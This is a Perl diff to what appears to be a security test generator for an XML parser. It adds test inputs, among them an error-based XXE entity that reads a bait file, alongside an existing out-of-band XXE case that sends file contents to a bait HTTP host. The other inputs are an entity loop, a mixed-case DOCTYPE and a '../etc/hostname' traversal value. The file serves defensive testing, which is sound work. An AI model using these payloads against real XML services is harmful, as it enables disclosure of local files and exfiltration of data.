@@ -123,6 +123,9 @@ sub make_doctypes {
 		'out-of-band' => qq(<!ENTITY % f SYSTEM "$file_bait">) .
 		    qq(<!ENTITY % s "<!ENTITY &#37; t SYSTEM ) .
 		    qq('$http_bait%f;'>"> %s; %t;),
+		'error-based' => qq(<!ENTITY % f SYSTEM "$file_bait">) .
+		    q(<!ENTITY % s "<!ENTITY &#37; t SYSTEM 'file:///none/%f;'>">) .
+		    ' %s; %t;',
 		'loop' => '<!ENTITY a "&b;"><!ENTITY b "&a;">',
 		'defaults' => '<!ATTLIST a b CDATA "c">',
 	);
@@ -147,6 +150,7 @@ sub make_hidden_doctypes {
 	byte_case('doctype-before-bad-byte', "<!DOCTYPE a><a>\xFF</a>");
 	text_case('doctype-in-open-value', q(<a b='<!DOCTYPE a>));
 	text_case('doctype-lower-case', '<!doctype a><a/>');
+	text_case('doctype-mixed-case', '<!DocType a><a/>');
 	text_case('doctype-in-comment', summary('a<!-- <!DOCTYPE a> -->'));
 	text_case('doctype-in-cdata', summary('<![CDATA[<!DOCTYPE a>]]>'));
 }
@@ -204,6 +208,7 @@ sub make_schema {
 		s{"Etc/UTC"}{'"' . 'Etc/' x 15_000 . '"'}er);
 	text_case('zone-climbing', summary('a') =~
 		s{"Etc/UTC"}{"../../../../etc/hostname"}r);
+	text_case('marks-10000', summary('a' . "\x{301}" x 10_000));
 	text_case('language-long', summary('a') =~
 		s/"en"/'"en' . '-abcdefgh' x 7000 . '"'/er);
 }
